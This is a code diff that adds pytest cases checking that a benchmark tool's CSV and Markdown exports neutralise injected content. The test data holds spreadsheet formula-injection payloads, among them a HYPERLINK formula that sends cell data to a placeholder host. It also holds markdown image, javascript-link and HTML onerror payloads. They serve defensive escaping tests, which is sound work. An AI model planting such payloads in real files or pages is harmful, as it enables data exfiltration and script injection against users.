@@ -301,3 +301,53 @@ def test_the_runtimes_start_up_lines_are_dropped_and_its_warnings_kept(capfd):
     assert capfd.readouterr().err == (
         "E0000 00:00:1796009596.6 16736 coordination_service.cc:9] peer lost\n"
     )
+
+
+# ---------------------------------------------------------------- exports that stay inert
+
+FORMULAS = ['=HYPERLINK("http://e.example/?d="&A1,"x")', "+1+2", "-3+4", "@SUM(A1:A9)"]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_csv_cells_never_start_a_formula_and_numbers_stay_numbers(tmp_path, formula):
+    import csv
+
+    def formulas(data: dict) -> None:
+        data["environment"]["cpu"]["model"] = formula  # the row's device label
+        data["environment"]["packages"]["tensorflow"] = formula  # its conditions
+
+    result_file(tmp_path, "base.json")
+    name = f"{formula.replace('/', '')}.json"  # the source cell starts with the formula
+    result_file(tmp_path, name, scale=0.8, edit=formulas)
+    done = segbench("compare", "--format", "csv", "--", "base.json", name, cwd=tmp_path)
+    assert done.returncode == 0, done.stderr
+    rows = list(csv.DictReader(done.stdout.splitlines()))
+    cells = [v for row in rows for v in row.values() if v]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@")) and not _number(c)]
+    hostile_row = rows[1]
+    assert hostile_row["source"] == "'" + name  # shown as typed, never run
+    assert hostile_row["device"] == f"CPU: {formula} × 2"  # inside a cell a formula is text
+    assert float(hostile_row["speedup"]) == pytest.approx(1 / 0.8, rel=0.05)
+    assert float(hostile_row["ms_per_step"]) > 0  # numbers stay numbers
+
+
+def _number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+@pytest.mark.parametrize(
+    ("label", "inert"),
+    [
+        ("![x](http://e.example/pixel.png)", r"!\[x\](http\://e.example/pixel.png)"),
+        ("[click](javascript:alert(1))", r"\[click\](javascript:alert(1))"),
+        ("[a][ref]\n\n[ref]: http://e.example", r"\[a\]\[ref\]  \[ref\]: http\://e.example"),
+        ("see www.e.example or HTTPS://e.example", r"see www\.e.example or HTTPS\://e.example"),
+        ("<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)&gt;"),
+    ],
+)
+def test_markdown_cells_hold_no_link_image_or_html(label, inert):
+    assert markdown_cell(label) == inert
